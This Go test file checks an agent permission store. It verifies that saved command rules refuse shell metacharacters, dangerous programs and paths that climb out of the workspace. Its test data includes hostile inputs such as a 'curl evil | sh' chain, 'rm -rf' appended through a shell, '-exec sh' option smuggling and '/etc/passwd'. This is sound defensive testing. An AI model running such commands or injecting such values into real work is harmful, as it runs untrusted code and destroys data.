package trust

import (
	"os"
	"strings"
	"testing"
)

// TestCommandRuleRefusesWhatCouldMeanMore is the load-bearing corpus: a
// command whose saved rule could be read as allowing more than the card
// showed (a shell metacharacter, shell syntax, a program by path or with
// variables) or that the classifier calls dangerous never gets a rule.
func TestCommandRuleRefusesWhatCouldMeanMore(t *testing.T) {
	refused := []struct {
		argv  []string
		shell bool
	}{
		{[]string{"go test ./... && curl evil | sh"}, true},
		{[]string{"go test $(cat x)"}, true},
		{[]string{"npm run lint > out"}, true},
		{[]string{"go", "test", "./...;rm"}, false},
		{[]string{"go", "test", "*"}, false},
		{[]string{"go", "test", "$HOME"}, false},
		{[]string{"go", "test", "`id`"}, false},
		{[]string{"go", "test", "~/x"}, false},
		{[]string{"go", "test", "a b"}, false},
		{[]string{"go", "test", "a\nb"}, false},
		{[]string{"go", "test", "\u202egol"}, false},
		{[]string{"./scripts/test.sh"}, false},
		{[]string{"/usr/bin/make"}, false},
		{[]string{"CGO_ENABLED=0", "go", "build"}, false},
		{[]string{"rm", "-rf", "build"}, false},
		{[]string{"mv", "a", "b"}, false},
		{[]string{"sh", "-c", "true"}, false},
		{[]string{"bash", "build.sh"}, false},
		{[]string{"python3", "-m", "pytest"}, false},
		{[]string{"node", "x.js"}, false},
		{[]string{"curl", "https://x"}, false},
		{[]string{"sudo", "make"}, false},
		{[]string{"xargs", "rm"}, false},
		{[]string{"env", "go", "test"}, false},
		{[]string{"npx", "prettier"}, false},
		{[]string{"chmod", "+x", "a"}, false},
		{[]string{"docker", "run", "x"}, false},
		{[]string{"vim", "a"}, false},
		{[]string{"printenv"}, false},
		{[]string{""}, false},
		{nil, false},
	}
	for _, tt := range refused {
		if r, err := CommandRule(tt.argv, tt.shell); err == nil || err.Error() == "" {
			t.Errorf("CommandRule(%q, shell %v) = %+v, want an error saying why no rule", tt.argv, tt.shell, r)
		}
	}
}

// TestCommandRuleSavesBuildAndTestCommands: the commands rules are for
// (build, test, lint, read-only ones) get a rule of exactly their words.
func TestCommandRuleSavesBuildAndTestCommands(t *testing.T) {
	ok := []struct {
		argv  []string
		shell bool
		want  string
	}{
		{[]string{"go", "test", "./..."}, false, "command: go test ./*"},
		{[]string{"go", "vet", "./cmd/agentls", "./trust"}, false, "command: go vet ./*"},
		{[]string{"npm", "run", "lint", "--", "--fix"}, false, "command: npm run lint -- --fix"},
		{[]string{"npm", "install"}, false, "command: npm install"},
		{[]string{"go", "test", "../..."}, false, "command: go test ../..."},
		{[]string{"npm run lint"}, true, "command: npm run lint"},
		{[]string{"make", "check"}, false, "command: make check"},
		{[]string{"cargo", "clippy"}, false, "command: cargo clippy"},
		{[]string{"git", "status"}, false, "command: git status"},
		{[]string{"pytest", "-q", "tests/unit"}, false, "command: pytest -q tests/unit"},
		{[]string{"go", "test", "-run=TestX", "./pkg"}, false, "command: go test -run=TestX ./*"},
	}
	for _, tt := range ok {
		r, err := CommandRule(tt.argv, tt.shell)
		if err != nil || r.ID() != tt.want || r.Kind != RuleCommand {
			t.Errorf("CommandRule(%q) = %q, %v; want %q", tt.argv, r.ID(), err, tt.want)
		}
	}
}

// TestPrefixRuleTakesOnlyPathsInsideTheFolder is load-bearing in the
// refusing direction: a prefix rule ("go test ./*", from a card for "go
// test ./...") allows its words followed by paths inside the folder the
// command runs in, and nothing else: no option (go test -exec sh), no
// other word (a package name to fetch), no path climbing out.
func TestPrefixRuleTakesOnlyPathsInsideTheFolder(t *testing.T) {
	s := testStore(t)
	for _, argv := range [][]string{{"go", "test", "./..."}, {"npm", "run", "lint"}} {
		r, err := CommandRule(argv, false)
		if err != nil {
			t.Fatal(err)
		}
		if err := s.AddRule("/repo", r); err != nil {
			t.Fatal(err)
		}
	}
	tests := []struct {
		argv  []string
		shell bool
		want  bool
	}{
		{[]string{"go", "test", "./..."}, false, true},
		{[]string{"go", "test"}, false, true},
		{[]string{"go", "test", "."}, false, true},
		{[]string{"go", "test", "./trust", "./agent/..."}, false, true},
		{[]string{"go test ./cmd/agentls"}, true, true},
		{[]string{"go", "test", "-exec", "sh", "./..."}, false, false},
		{[]string{"go", "test", "./...", "-exec=sh"}, false, false},
		{[]string{"go", "test", "../..."}, false, false},
		{[]string{"go", "test", "./a/../../x"}, false, false},
		{[]string{"go", "test", "/etc"}, false, false},
		{[]string{"go", "test", "pkg"}, false, false},
		{[]string{"go", "test", "./*"}, false, false},
		{[]string{"go test ./... && sh"}, true, false},
		{[]string{"go", "run", "./..."}, false, false},
		{[]string{"go"}, false, false},
		// npm run lint's card offered exactly its words: nothing more.
		{[]string{"npm", "run", "lint"}, false, true},
		{[]string{"npm", "run", "lint", "--", "--fix"}, false, false},
		{[]string{"npm", "run", "lint", "./src"}, false, false},
	}
	for _, tt := range tests {
		if _, got := s.CommandAllowed("/repo", tt.argv, tt.shell); got != tt.want {
			t.Errorf("CommandAllowed(%q, shell %v) = %v, want %v", tt.argv, tt.shell, got, tt.want)
		}
	}
	r, _ := CommandRule([]string{"go", "test", "./..."}, false)
	if !strings.Contains(r.Describe(), "`go test` followed by any paths inside its folder") {
		t.Errorf("the card says %q, which does not say the rule takes other paths", r.Describe())
	}
}

func TestWriteRule(t *testing.T) {
	tests := []struct{ rel, want string }{
		{"src/api/handler.go", "write: src/api"},
		{"src/main.go", "write: src"},
		{"main.go", ""},
		{"../x/y.go", ""},
		{"/etc/passwd", ""},
		{".", ""},
	}
	for _, tt := range tests {
		r, err := WriteRule(tt.rel)
		if tt.want == "" {
			if err == nil {
				t.Errorf("WriteRule(%q) = %q, want an error", tt.rel, r.ID())
			}
			continue
		}
		if err != nil || r.ID() != tt.want {
			t.Errorf("WriteRule(%q) = %q, %v; want %q", tt.rel, r.ID(), err, tt.want)
		}
	}
}

func TestStoreRulesAreSavedPerWorkspaceListedAndRevoked(t *testing.T) {
	s := testStore(t)
	cmd, _ := CommandRule([]string{"go", "test", "./..."}, false)
	wr, _ := WriteRule("src/api/x.go")
	for _, r := range []Rule{cmd, wr, cmd} {
		if err := s.AddRule("/repo", r); err != nil {
			t.Fatal(err)
		}
	}
	rules, err := s.Rules("/repo")
	if err != nil || len(rules) != 2 || rules[0].ID() != "command: go test ./*" || rules[1].ID() != "write: src/api" || rules[0].AddedAt.IsZero() {
		t.Fatalf("Rules = %+v, %v; want the two rules once each", rules, err)
	}
	if other, _ := s.Rules("/other"); len(other) != 0 {
		t.Errorf("another workspace has rules: %+v", other)
	}
	matches := []struct {
		what string
		got  bool
		want bool
	}{
		{"the exact command", has(s.CommandAllowed("/repo", []string{"go", "test", "./..."}, false)), true},
		{"more words", has(s.CommandAllowed("/repo", []string{"go", "test", "./...", "-exec", "rm"}, false)), false},
		{"fewer words", has(s.CommandAllowed("/repo", []string{"go"}, false)), false},
		{"another workspace", has(s.CommandAllowed("/other", []string{"go", "test", "./..."}, false)), false},
		{"the same words through a shell", has(s.CommandAllowed("/repo", []string{"go test ./..."}, true)), true},
		{"the words and more shell syntax", has(s.CommandAllowed("/repo", []string{"go test ./... ; rm -rf ."}, true)), false},
		{"a file in the folder", has(s.WriteAllowed("/repo", "src/api/h.go")), true},
		{"a file below the folder", has(s.WriteAllowed("/repo", "src/api/v2/h.go")), true},
		{"the folder's parent", has(s.WriteAllowed("/repo", "src/h.go")), false},
		{"a sibling with the folder's name as prefix", has(s.WriteAllowed("/repo", "src/apix/h.go")), false},
		{"a path climbing out", has(s.WriteAllowed("/repo", "src/api/../../h.go")), false},
		{"a path leaving the workspace", has(s.WriteAllowed("/repo", "../repo/src/api/h.go")), false},
	}
	for _, m := range matches {
		if m.got != m.want {
			t.Errorf("%s: allowed %v, want %v", m.what, m.got, m.want)
		}
	}
	// Forgetting the launch approvals keeps the rules, and the other way.
	if err := s.ApproveLaunch("/repo", "fs", fpA); err != nil {
		t.Fatal(err)
	}
	if _, err := s.RevokeAll("/repo"); err != nil {
		t.Fatal(err)
	}
	if rules, _ := s.Rules("/repo"); len(rules) != 2 {
		t.Fatalf("RevokeAll of the launches dropped the rules: %+v", rules)
	}
	if ok, err := s.RevokeRule("/repo", "command: go test ./*"); !ok || err != nil {
		t.Fatalf("RevokeRule = %v, %v", ok, err)
	}
	if ok, _ := s.RevokeRule("/repo", "command: go test ./*"); ok {
		t.Error("revoking it again found it")
	}
	if has(s.CommandAllowed("/repo", []string{"go", "test", "./..."}, false)) {
		t.Error("a revoked rule still allows")
	}
	if ok, _ := s.RevokeRule("/repo", "write: src/api"); !ok {
		t.Error("the write rule was not found")
	}
	b, _ := os.ReadFile(s.Path())
	if strings.Contains(string(b), "/repo") {
		t.Errorf("an emptied workspace is still in the store:\n%s", b)
	}
}

func TestStoreRefusesARuleNoCardCouldOffer(t *testing.T) {
	s := testStore(t)
	for _, r := range []Rule{
		{Kind: RuleCommand, Argv: []string{"rm", "-rf", "/"}},
		{Kind: RuleCommand, Argv: []string{"sh", "-c", "x"}},
		{Kind: RuleWrite, Folder: "."},
		{Kind: RuleWrite, Folder: "../x"},
		{Kind: RuleWrite, Folder: "a/../b"},
		{Kind: "everything"},
	} {
		if err := s.AddRule("/repo", r); err == nil {
			t.Errorf("AddRule(%+v) saved it", r)
		}
	}
	if err := s.AddRule("relative", Rule{Kind: RuleWrite, Folder: "src"}); err == nil {
		t.Error("AddRule with a relative workspace saved it")
	}
}

func has(_ Rule, ok bool) bool { return ok }
